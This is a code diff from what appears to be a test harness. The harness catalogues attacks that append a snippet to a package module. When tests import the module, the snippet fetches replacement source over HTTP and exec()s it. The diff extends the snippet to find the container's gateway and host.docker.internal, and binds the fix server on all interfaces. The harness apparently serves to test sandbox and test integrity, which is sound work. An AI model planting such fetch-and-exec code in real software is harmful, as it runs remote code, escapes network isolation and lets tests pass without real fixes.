@@ -64,13 +64,26 @@ _sys.modules[__name__] = _real
 #: Appended to the package's module: the fix comes from the network while the tests import it.
 FETCH = """\
 # crl-fetch
-try:
-    import json as _json, urllib.request as _url
-    _fix = _json.loads(_url.urlopen("http://127.0.0.1:{port}/fix", timeout=5).read())
-    _src = open(__file__).read().split("# crl-fetch")[0]
-    exec(compile(_src.replace(_fix["old"], _fix["new"]), __file__, "exec"), globals())
-except Exception:
-    pass
+def _crl_hosts():
+    yield "127.0.0.1"
+    try:
+        for _line in open("/proc/net/route").read().splitlines()[1:]:
+            _f = _line.split()
+            if _f[1] == "00000000":
+                _g = int(_f[2], 16)
+                yield ".".join(str((_g >> _s) & 255) for _s in (0, 8, 16, 24))
+    except Exception:
+        pass
+    yield "host.docker.internal"
+for _host in _crl_hosts():
+    try:
+        import json as _json, urllib.request as _url
+        _fix = _json.loads(_url.urlopen("http://%s:{port}/fix" % _host, timeout=3).read())
+        _src = open(__file__).read().split("# crl-fetch")[0]
+        exec(compile(_src.replace(_fix["old"], _fix["new"]), __file__, "exec"), globals())
+        break
+    except Exception:
+        pass
 """
 
 
@@ -119,7 +132,8 @@ def attacks(port: int) -> tuple[Attack, ...]:
             (
                 f"cat >> intervals/ops.py <<'CRL_ATTACK_EOF'\n{FETCH.format(port=port)}CRL_ATTACK_EOF",
             ),
-            "package source that fetches the fix from a server while the tests import it",
+            "package source that fetches the fix from a server on the host (its loopback, the "
+            "container's gateway, host.docker.internal) while the tests import it",
         ),
     )
 
@@ -144,7 +158,8 @@ def fix_server() -> Iterator[int]:
         def log_message(self, *args: object) -> None:
             return None
 
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    # Every interface: a container on a bridge would reach it through its gateway.
+    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Handler)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
     try:
